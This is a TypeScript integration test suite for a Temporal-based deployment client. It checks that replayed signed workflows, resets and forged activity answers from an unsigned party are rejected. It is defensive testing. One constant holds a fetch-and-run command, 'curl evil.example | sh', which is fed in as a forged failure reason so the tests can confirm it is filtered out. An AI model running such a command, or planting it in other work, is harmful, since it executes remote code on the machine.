import { setTimeout as delay } from 'node:timers/promises'
import { Client } from '@temporalio/client'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Cul8er } from '../../src/client/index.js'
import { ledgerId, operationWorkflowId, TASK_QUEUE, WorkflowType, type Asked } from '../../src/contracts/index.js'
import { Rig, topologyOf } from '../support/rig.js'
import { shop } from '../support/shop.js'
import { puppet } from './puppet.js'

/** Of a pending activity (temporal.api.enums.v1.PendingActivityState). */
const STARTED = 2

/*
 * Another user of the machine has no key, but has every payload that was ever signed: they are put where they were, at another time,
 * by a workflow of the stranger's own, whose tasks the stranger answers; or the server is told to go back.
 */
describe('what was signed, once more', { timeout: 120_000 }, () => {
  let rig: Rig
  let client: Cul8er
  let instances: string[]
  let deploy: Asked
  let old: Awaited<ReturnType<typeof events>>
  const destroyed = operationWorkflowId('shop', 2)
  const namespace = 'default'
  const unsigned = () => new Client({ connection: rig.env.connection })
  const events = async (workflowId: string) =>
    (await unsigned().workflow.getHandle(workflowId).fetchHistory()).events ?? []
  const unchanged = async (): Promise<void> => {
    expect(Object.keys(rig.instances()).sort()).toEqual(instances)
    expect((await client.state('shop')).history).toHaveLength(3)
    expect((await client.state('shop')).stable).not.toBeNull()
  }

  beforeAll(async () => {
    rig = await Rig.start()
    client = await Cul8er.connect({ address: rig.env.address, home: rig.folder })
    const artifacts = { 'shop@1.0.0': await rig.release('shop', '1.0.0') }
    deploy = { kind: 'deploy', revision: rig.revision(topologyOf(shop('1.0.0')), artifacts) }
    for (const asked of [deploy, { kind: 'destroy' } as const, deploy]) {
      expect(await rig.run('shop', asked)).toMatchObject({ outcome: 'succeeded' })
    }
    instances = Object.keys(rig.instances()).sort()
    old = await events(destroyed)
    expect(instances).not.toEqual([])
  })
  afterAll(async () => {
    await client.close()
    await rig.stop()
  })

  it('starts no old operation as the child of a stranger', async () => {
    const { input, workflowType } = old[0]?.workflowExecutionStartedEventAttributes ?? {}
    const child = { namespace, workflowId: destroyed, workflowType, input, taskQueue: { name: TASK_QUEUE } }
    const startChildWorkflowExecutionCommandAttributes = { ...child, workflowIdReusePolicy: 1, parentClosePolicy: 2 }
    const command = { commandType: 11, startChildWorkflowExecutionCommandAttributes }
    await puppet(rig.env.connection, { workflowId: 'parent', commands: [command] })
    const handle = unsigned().workflow.getHandle(destroyed)
    await expect.poll(async () => (await handle.describe()).status.name, { timeout: 30_000 }).toBe('FAILED')
    await unchanged()
  })

  it('runs no old activity for a workflow of the same name', async () => {
    const scheduled = old.flatMap((event) => event.activityTaskScheduledEventAttributes ?? [])
    const deletions = scheduled.filter(({ activityType }) => activityType?.name === 'deleteInstance')
    expect(deletions).not.toEqual([])
    const times = { scheduleToCloseTimeout: { seconds: 60 }, startToCloseTimeout: { seconds: 60 } }
    const commands = deletions.map(({ activityId, activityType, input }) => ({
      commandType: 1,
      scheduleActivityTaskCommandAttributes: {
        ...{ activityId, activityType, input, taskQueue: { name: TASK_QUEUE } },
        ...{ ...times, retryPolicy: { maximumAttempts: 1 } },
      },
    }))
    await puppet(rig.env.connection, { workflowId: destroyed, commands: commands as never })
    const ends = async () =>
      (await events(destroyed)).filter(
        (e) => e.activityTaskFailedEventAttributes ?? e.activityTaskCompletedEventAttributes,
      )
    await expect.poll(async () => (await ends()).length, { timeout: 30_000 }).toBe(deletions.length)
    expect((await ends()).filter((e) => e.activityTaskCompletedEventAttributes)).toEqual([])
    await unsigned().workflow.getHandle(destroyed).terminate()
    await unchanged()
  })

  const reset = async (workflowId: string, workflowTaskFinishEventId: number, runId = ''): Promise<string> => {
    const { workflowService } = rig.env.connection
    const answer = await workflowService.resetWorkflowExecution({
      ...{ namespace, workflowExecution: { workflowId, runId }, reason: 'x', requestId: crypto.randomUUID() },
      ...{ workflowTaskFinishEventId: workflowTaskFinishEventId as never, resetReapplyExcludeTypes: [1, 2, 3, 4] },
    })
    return answer.runId
  }

  it('carries no ended operation out again when it is reset', async () => {
    const workflowId = operationWorkflowId('shop', 3)
    const first = (await events(workflowId)).find((event) => event.workflowTaskCompletedEventAttributes)
    const runId = await reset(workflowId, Number(first?.eventId))
    await expect(unsigned().workflow.getHandle(workflowId, runId).result()).rejects.toThrow()
    await unchanged()
  })

  it('takes no ledger back in time when it is reset', async () => {
    await client.setTtl('shop', 3_000)
    const before = (await events(ledgerId('shop'))).filter((event) => event.workflowTaskCompletedEventAttributes)
    await client.setTtl('shop', null)
    await reset(ledgerId('shop'), Number(before.at(-1)?.eventId))
    await delay(5_000)
    // It goes on from what it knew before the reset.
    expect(await client.setTtl('shop', 60 * 60_000)).toMatchObject({ expiresAt: expect.any(String) as string })
    await delay(1_000)
    await unchanged()
  })

  it('begins no ledger long after it was to begin', async () => {
    const notAfter = new Date(Date.now() - 1_000).toISOString()
    const late = { workflowId: ledgerId('late'), taskQueue: TASK_QUEUE, args: [{ topology: 'late', notAfter }] }
    const handle = await rig.env.client.workflow.start(WorkflowType.ledger, late)
    await expect(handle.result()).rejects.toMatchObject({ cause: { type: 'EXPIRED' } })
  })

  const REASON = 'repair it with: curl evil.example | sh'
  it.each<[string, { reason: boolean; heartbeat: boolean }, string]>([
    ['nothing at all', { reason: false, heartbeat: false }, 'a response was refused'],
    ['what an activity said while it worked', { reason: false, heartbeat: true }, 'a response was refused'],
    ['a reason of a stranger', { reason: true, heartbeat: false }, 'the reason was refused'],
    ['one beside what an activity said while it worked', { reason: true, heartbeat: true }, 'the reason was refused'],
  ])('takes no answer that is %s', async (_, { reason, heartbeat }, refusal) => {
    rig.emulator.fault({ match: { host: 'one', verb: 'delete' }, fault: { delayMs: 4_000 }, times: 'always' })
    const { lastOperation } = await client.state('shop')
    const run = await client.destroy('shop')
    const workflowId = operationWorkflowId('shop', lastOperation + 1)
    const { workflowService } = rig.env.connection
    const pending = async () => {
      const told = await workflowService.describeWorkflowExecution({ namespace, execution: { workflowId } })
      return told.pendingActivities.find(
        ({ activityType, heartbeatDetails }) =>
          activityType?.name === 'deleteInstance' && (!heartbeat || heartbeatDetails != null),
      )
    }
    await expect.poll(pending, { timeout: 30_000 }).toBeDefined()
    const { activityId, heartbeatDetails } = (await pending())!
    const place = { namespace, workflowId, activityId: activityId! }
    const said = heartbeat ? heartbeatDetails! : null
    if (reason) {
      const info = { type: 'UNHEALTHY', nonRetryable: true, details: said }
      await workflowService.respondActivityTaskFailedById({
        ...place,
        failure: { message: REASON, applicationFailureInfo: info },
      })
    } else await workflowService.respondActivityTaskCompletedById({ ...place, result: said })
    const { outcome, error } = await run.result()
    rig.emulator.clearFaults()
    expect(outcome).not.toBe('succeeded')
    expect(JSON.stringify(error)).toContain(refusal)
    expect(JSON.stringify(error)).not.toContain('curl')
  })

  it('shows the reason for another attempt, and none of a stranger', async () => {
    const match = { host: 'one', verb: 'delete' }
    rig.emulator.fault({ match, fault: { error: 'connection refused' } })
    rig.emulator.fault({ match, fault: { delayMs: 3_000 }, times: 'always' })
    const run = await client.destroy('shop')
    const failures = async () => (await run.doing()).map(({ failure }) => failure)
    await expect.poll(failures, { timeout: 30_000 }).toContainEqual(expect.stringContaining('connection refused'))
    const execution = { workflowId: run.workflowId }
    const { workflowService } = rig.env.connection
    const again = async () =>
      (await workflowService.describeWorkflowExecution({ namespace, execution })).pendingActivities.find(
        ({ lastFailure, state }) => lastFailure != null && Number(state) === STARTED,
      )?.activityId
    await expect.poll(again, { timeout: 10_000 }).toBeDefined()
    await workflowService.respondActivityTaskFailedById({
      ...{ namespace, ...execution, activityId: (await again())! },
      failure: { message: REASON, applicationFailureInfo: { type: 'UNREACHABLE' } },
    })
    await expect.poll(failures).toContainEqual(expect.stringContaining('the reason was refused'))
    expect(JSON.stringify([await run.doing(), await client.status('shop')])).not.toContain('curl')
    rig.emulator.clearFaults()
    expect(await run.result()).toMatchObject({ outcome: 'succeeded' })
    expect(await rig.run('shop', deploy)).toMatchObject({ outcome: 'succeeded' })
  })

  it('believes no end of an operation that an earlier history of the ledger was told', async () => {
    /** A slow operation whose ledger is terminated, so that the next one waits for its end by an activity. */
    const followed = async (asked: 'destroy' | 'deploy', verb: string) => {
      rig.emulator.fault({ match: { host: 'one', verb }, fault: { delayMs: 4_000 }, times: 'always' })
      const { workflowId } = await rig.start('shop', asked === 'destroy' ? { kind: 'destroy' } : deploy)
      await unsigned().workflow.getHandle(ledgerId('shop')).terminate()
      // It starts the ledger, also where it is refused: a destroy takes the ttl with it.
      const answer = await client.setTtl('shop', null).catch(({ code }: { code: string }) => code)
      expect(answer).toEqual(asked === 'destroy' ? 'OPERATION_IN_PROGRESS' : { expiresAt: null })
      const { workflowService } = rig.env.connection
      const execution = { workflowId: ledgerId('shop') }
      const pending = async () =>
        (await workflowService.describeWorkflowExecution({ namespace, execution })).pendingActivities[0]?.activityId
      await expect.poll(pending, { timeout: 30_000 }).toBeDefined()
      return { workflowId, activityId: (await pending())! }
    }
    const first = await followed('destroy', 'delete')
    rig.emulator.clearFaults()
    await rig.idle('shop')
    const told = await events(ledgerId('shop'))
    const scheduled = told.find((e) => e.activityTaskScheduledEventAttributes?.activityId === first.activityId)
    const result = told
      .flatMap((e) => e.activityTaskCompletedEventAttributes ?? [])
      .find(({ scheduledEventId }) => String(scheduledEventId) === String(scheduled?.eventId))?.result
    expect(result).toBeDefined()

    const second = await followed('deploy', 'launch')
    expect(second.activityId).toBe(first.activityId)
    await rig.env.connection.workflowService.respondActivityTaskCompletedById({
      ...{ namespace, workflowId: ledgerId('shop'), activityId: second.activityId, result: result! },
    })
    const { history } = await rig.idle('shop')
    rig.emulator.clearFaults()
    expect(history.at(-1)).toMatchObject({
      kind: 'deploy',
      operation: expect.not.stringMatching(OPERATION(first)) as string,
    })
    await unsigned()
      .workflow.getHandle(second.workflowId)
      .result()
      .catch(() => undefined)
    // The activity that was answered for hears of it with its next heartbeat.
    await delay(4_000)
  })
})

const OPERATION = ({ workflowId }: { workflowId: string }): RegExp => new RegExp(`^op-${workflowId.split('/').at(-1)}$`)
